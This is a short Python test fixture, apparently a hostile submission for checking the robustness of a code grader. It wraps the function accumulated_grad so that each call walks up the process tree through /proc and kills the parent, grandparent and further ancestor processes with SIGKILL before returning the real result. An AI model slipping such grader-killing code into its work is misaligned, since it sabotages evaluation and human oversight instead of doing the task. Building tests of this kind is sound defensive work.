# APPEND
# Hostile case: kill the processes that run the grader. / 恶意用例：杀死运行评分程序的进程。
import os as _os
import signal as _signal

_accumulated_grad = accumulated_grad


def accumulated_grad(x, times):
    pid = _os.getpid()
    for _ in range(4):  # the test process's parent, grandparent, ...
        with open(f"/proc/{pid}/stat", "rb") as stat:
            pid = int(stat.read().rsplit(b")", 1)[1].split()[1])
        if pid > 1:
            _os.kill(pid, _signal.SIGKILL)
    return _accumulated_grad(x, times)
